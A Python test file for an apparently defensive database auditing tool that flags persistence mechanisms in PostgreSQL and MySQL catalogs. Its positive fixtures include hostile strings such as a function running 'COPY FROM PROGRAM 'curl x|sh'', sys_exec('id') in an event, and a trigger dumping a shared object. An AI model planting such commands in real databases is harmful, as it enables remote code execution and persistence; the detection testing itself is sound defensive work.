"""Every SQL check: a positive and a benign case (PostgreSQL and MariaDB/MySQL here; MSSQL and
Oracle through the recorded clean/compromised rows), plus the registry's own rules."""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Any

import pytest
from test_mssql_oracle import MSSQL_EXPECTED, ORACLE_EXPECTED

from sscguard.model import Confidence, Severity
from sscguard.sql.audit import DiskAccess, audit
from sscguard.sql.base import REGISTRY, RawCatalog, Registry, Server
from sscguard.sql.packs import PACKS

REPO = Path(__file__).resolve().parents[2]


def _fn(**kw: Any) -> dict[str, Any]:
    row = {
        "schema": "public",
        "name": "f",
        "args": "",
        "language": "c",
        "trusted": False,
        "probin": "$libdir/x",
        "src": "f",
        "owner": "postgres",
        "security_definer": False,
        "extension": "",
    }
    return {**row, **kw}


def _lang(**kw: Any) -> dict[str, Any]:
    row = {
        "name": "plpython3u",
        "trusted": False,
        "owner": "postgres",
        "acl": "default",
        "handler": "plpython3_call_handler",
        "extension": "plpython3u",
    }
    return {**row, **kw}


def _setting(name: str, value: str) -> dict[str, Any]:
    return {
        "name": name,
        "setting": value,
        "source": "configuration file",
        "sourcefile": "",
        "sourceline": None,
    }


def _trigger(**kw: Any) -> dict[str, Any]:
    row = {
        "name": "t",
        "event": "ddl_command_end",
        "enabled": "O",
        "owner": "postgres",
        "func_schema": "public",
        "func_name": "t",
        "language": "plpgsql",
        "src": "BEGIN END",
        "extension": "",
    }
    return {**row, **kw}


_ROLES = {
    "pg_roles": [
        {"role": "postgres", "superuser": True, "can_login": True},
        {"role": "app", "superuser": False, "can_login": True},
    ]
}


def _my_server(**kw: Any) -> dict[str, Any]:
    row = {
        "version": "10.11.6-MariaDB",
        "version_comment": "Debian 12",
        "hostname": "db1",
        "port": 3306,
        "login": "audit@%",
        "secure_file_priv": "/var/lib/mysql-files/",
        "plugin_dir": "/usr/lib/mysql/plugin/",
        "local_infile": 0,
        "datadir": "/var/lib/mysql/",
    }
    return {**row, **kw}


def _routine(kind: str, definition: str) -> dict[str, Any]:
    return {
        "db": "app",
        "name": "r",
        "definer": "root@localhost",
        "status": "ENABLED",
        "tbl": "t",
        "type": "PROCEDURE",
        "definition": definition,
    }


# check ID -> (engine, positive rows, benign rows)
CASES: dict[str, tuple[str, dict[str, list[dict[str, Any]]], dict[str, list[dict[str, Any]]]]] = {
    "SSC-001-001": (
        "postgresql",
        {"pg_functions": [_fn(probin="/tmp/libx.so")]},
        {
            "pg_functions": [
                _fn(probin="$libdir/pg_stat_statements", extension="pg_stat_statements")
            ]
        },
    ),
    "SSC-001-002": (
        "postgresql",
        {"pg_functions": [_fn(probin="$libdir/plpython3")]},
        {"pg_functions": [_fn(schema="pg_catalog", probin="$libdir/plpgsql")]},
    ),
    "SSC-001-003": (
        "postgresql",
        {"pg_functions": [_fn(language="plperlu", src="`id`", probin="")]},
        {"pg_functions": [_fn(language="plperl", trusted=True, src="return 1", probin="")]},
    ),
    "SSC-001-004": (
        "postgresql",
        {"pg_event_triggers": [_trigger()]},
        {"pg_event_triggers": [_trigger(extension="pglogical")]},
    ),
    "SSC-001-005": (
        "postgresql",
        {"pg_settings": [_setting("shared_preload_libraries", "pg_stat_statements, backdoor")]},
        {"pg_settings": [_setting("shared_preload_libraries", "pg_stat_statements")]},
    ),
    "SSC-001-006": (
        "postgresql",
        {"pg_settings": [_setting("shared_preload_libraries", "pg_stat_statements")]},
        {"pg_settings": [_setting("shared_preload_libraries", "")]},
    ),
    "SSC-001-007": (
        "postgresql",
        {"pg_role_settings": [{"db": "", "role": "app", "setting": "session_preload_libraries=x"}]},
        {"pg_role_settings": [{"db": "", "role": "app", "setting": "session_preload_libraries="}]},
    ),
    "SSC-001-008": (
        "postgresql",
        {"pg_settings": [_setting("dynamic_library_path", "/tmp/l:$libdir")]},
        {"pg_settings": [_setting("dynamic_library_path", "$libdir")]},
    ),
    "SSC-001-009": (
        "postgresql",
        {
            **_ROLES,
            "pg_members": [
                {"role": "pg_execute_server_program", "member": "ops"},
                {"role": "ops", "member": "app"},
            ],
        },
        {**_ROLES, "pg_members": [{"role": "pg_execute_server_program", "member": "postgres"}]},
    ),
    "SSC-001-010": (
        "postgresql",
        {**_ROLES, "pg_members": [{"role": "pg_write_server_files", "member": "app"}]},
        {**_ROLES, "pg_members": [{"role": "pg_read_all_stats", "member": "app"}]},
    ),
    "SSC-001-011": (
        "postgresql",
        {"pg_languages": [_lang(trusted=True)]},
        {"pg_languages": [_lang()]},
    ),
    "SSC-001-012": (
        "postgresql",
        {
            **_ROLES,
            "pg_languages": [_lang(trusted=True, acl="{postgres=U/postgres,app=U/postgres}")],
        },
        {**_ROLES, "pg_languages": [_lang(trusted=True, acl="{postgres=U/postgres}")]},
    ),
    "SSC-001-013": (
        "postgresql",
        {
            "pg_functions": [
                _fn(language="plpgsql", probin="", src="BEGIN COPY t FROM PROGRAM 'curl x|sh'; END")
            ]
        },
        {
            "pg_functions": [
                _fn(language="plpgsql", probin="", src="BEGIN COPY t FROM '/data/in.csv'; END")
            ]
        },
    ),
    "SSC-001-020": (
        "mysql",
        {"my_func": [{"name": "sys_eval", "ret": 0, "dl": "x.so", "type": "function"}]},
        {"my_func": []},
    ),
    "SSC-001-021": (
        "mysql",
        {"my_plugin_table": [{"name": "audit_x", "dl": "ha_x.so"}]},
        {"my_plugin_table": [{"name": "server_audit", "dl": "server_audit.so"}]},
    ),
    "SSC-001-022": (
        "mysql",
        {"my_events": [_routine("EVENT", "DO SELECT sys_exec('id')")]},
        {"my_events": [_routine("EVENT", "DELETE FROM log WHERE ts < NOW()")]},
    ),
    "SSC-001-023": (
        "mysql",
        {"my_triggers": [_routine("TRIGGER", "SELECT 0x7f INTO DUMPFILE '/p/x.so'")]},
        {"my_triggers": [_routine("TRIGGER", "SET NEW.updated = NOW()")]},
    ),
    "SSC-001-024": (
        "mysql",
        {"my_server": [_my_server(secure_file_priv="", version="8.0.36")]},
        {"my_server": [_my_server(secure_file_priv=None, version="8.0.36")]},
    ),
    "SSC-001-025": (
        "mysql",
        {"my_server": [_my_server(local_infile=1)]},
        {"my_server": [_my_server()]},
    ),
}
DIR_CHECKS = {"SSC-001-014": "postgresql", "SSC-001-026": "mysql"}


def _raw(engine: str, rows: dict[str, list[dict[str, Any]]]) -> RawCatalog:
    pack = PACKS[engine]
    full = {}
    for name, items in rows.items():
        query = pack.get(name)
        assert query is not None, name
        full[name] = tuple({c: r.get(c) for c in query.columns} for r in items)
    return RawCatalog(engine, full, frozenset(q.name for q in pack.queries), (), "test")


def _ids(engine: str, rows: dict[str, list[dict[str, Any]]]) -> set[str]:
    doc = audit(_raw(engine, rows), Server("x", "h"), DiskAccess(None, "no"), command="t")
    return {f.rule_id for f in doc.findings}


@pytest.mark.parametrize("check_id", sorted(CASES))
def test_positive(check_id: str) -> None:
    engine, positive, _ = CASES[check_id]
    assert check_id in _ids(engine, positive)


@pytest.mark.parametrize("check_id", sorted(CASES))
def test_benign(check_id: str) -> None:
    engine, _, benign = CASES[check_id]
    assert check_id not in _ids(engine, benign)


def _dir_case(tmp_path: Path, writable: bool) -> tuple[str, str]:
    """A data directory owned by the 'server user' and a code directory it can or cannot
    write (as root: the server user is nobody; otherwise the current user)."""
    data = tmp_path / "data"
    code = tmp_path / "code"
    data.mkdir()
    code.mkdir()
    uid = 65534 if os.geteuid() == 0 else os.geteuid()
    os.chown(data, uid, -1) if os.geteuid() == 0 else None
    if writable:
        if os.geteuid() == 0:
            os.chown(code, uid, -1)
        code.chmod(0o755)
    else:
        code.chmod(0o555 if os.geteuid() != 0 else 0o755)
    return str(code), str(data)


@pytest.mark.parametrize("check_id", sorted(DIR_CHECKS))
@pytest.mark.parametrize("writable", [True, False])
def test_directory_checks(check_id: str, writable: bool, tmp_path: Path) -> None:
    code, data = _dir_case(tmp_path, writable)
    engine = DIR_CHECKS[check_id]
    if engine == "postgresql":
        rows = {
            "pg_libdir": [{"pkglibdir": code}],
            "pg_settings": [_setting("data_directory", data)],
        }
    else:
        rows = {"my_server": [_my_server(plugin_dir=code, datadir=data)]}
    doc = audit(_raw(engine, rows), Server("x", "h"), DiskAccess("/"), command="t")
    assert (check_id in {f.rule_id for f in doc.findings}) is writable


def test_every_check_has_cases_and_a_docs_line() -> None:
    covered = set(CASES) | set(DIR_CHECKS) | MSSQL_EXPECTED | ORACLE_EXPECTED
    assert set(REGISTRY.checks) == covered
    docs = (REPO / "docs" / "sql.md").read_text()
    for check_id in REGISTRY.checks:
        assert re.search(rf"^\| {check_id} \|", docs, re.MULTILINE), check_id


def test_registry_refuses_duplicates_and_foreign_ids() -> None:
    registry = Registry()
    info = REGISTRY.checks["SSC-001-001"].info
    args = ("postgresql", "t", Severity.LOW, Confidence.LOW, info.attack[0], "w", "r")
    registry.check("SSC-001-098", *args)(lambda facts: [])
    with pytest.raises(ValueError, match="duplicate"):
        registry.check("SSC-001-098", *args)
    with pytest.raises(ValueError, match=r"SSC-001-001 \.\. SSC-001-099"):
        registry.check("SSC-003-001", *args)


def test_every_check_names_t1505_001_and_known_mitigations() -> None:
    for check in REGISTRY.checks.values():
        assert check.info.attack[0].technique == "T1505.001"
        assert set(check.info.attack[0].mitigations) <= {"M1042", "M1026", "M1018", "M1047"}
        assert check.info.why.endswith(".") and check.info.remediation
